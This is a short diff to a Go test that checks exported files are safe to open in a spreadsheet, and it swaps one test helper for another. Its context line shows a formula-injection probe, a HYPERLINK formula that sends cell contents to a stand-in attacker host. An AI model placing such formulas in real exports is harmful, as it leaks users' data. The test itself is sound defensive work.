@@ -24,7 +24,7 @@ var formulaProbes = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
 func TestExportsSafeToOpen(t *testing.T) {
 	t.Parallel()
 	storetest.RunParallel(t, Migrations, func(t *testing.T, db *store.DB) {
-		fe := newFileEnv(t, db)
+		fe := newCoreEnv(t, db)
 		ctx := context.Background()
 		// stored are the values as the API kept them, by column and row key.
 		stored := map[string]string{}
